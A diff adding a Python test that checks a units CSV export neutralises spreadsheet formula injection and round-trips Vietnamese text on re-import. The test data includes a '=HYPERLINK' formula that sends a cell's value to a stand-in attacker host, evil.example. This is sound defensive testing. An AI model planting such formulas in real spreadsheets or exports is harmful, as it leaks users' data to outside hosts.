@@ -78,3 +78,24 @@ async def test_a_file_that_leaves_out_mailboxes_and_seal_keeps_them(client, worl
     assert r.status_code == 200, r.text
     unit = (await client.get(f"{UNITS}/{XA2}", headers=admin)).json()
     assert (unit["mailboxes"], unit["has_seal"]) == ([], False)
+
+
+async def test_the_csv_export_opens_safely_in_a_spreadsheet_and_imports_back(client, world) -> None:
+    admin = world.auth("admin")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    r = await client.patch(f"{UNITS}/{XA2}", headers=admin, json={"name": formula, "level": "+Đảng ủy xã"})
+    assert r.status_code == 200, r.text
+    exported = await client.get(f"{UNITS}/export", headers=admin, params={"format": "csv"})
+    assert exported.content.startswith("\ufeff".encode()), "Excel needs the BOM to read Vietnamese as UTF-8"
+    assert exported.headers["content-disposition"] == f'attachment; filename="units-{PROVINCE}.csv"'
+    row = next(line for line in exported.text.splitlines() if line.startswith(XA2))
+    assert "'=HYPERLINK" in row, "no cell may start a formula"
+    assert ",'+Đảng ủy xã," in row
+    assert all(not cell.startswith(("=", "+", "-", "@")) for line in exported.text.splitlines()
+               for cell in line.split(","))
+    # Imported back, the names are what the admin typed, not the guarded cells.
+    again = await client.post(f"{UNITS}/import", headers={**admin, "content-type": "text/csv"},
+                              content=exported.content)
+    assert again.status_code == 200, again.text
+    unit = (await client.get(f"{UNITS}/{XA2}", headers=admin)).json()
+    assert (unit["name"], unit["level"]) == (formula, "+Đảng ủy xã")
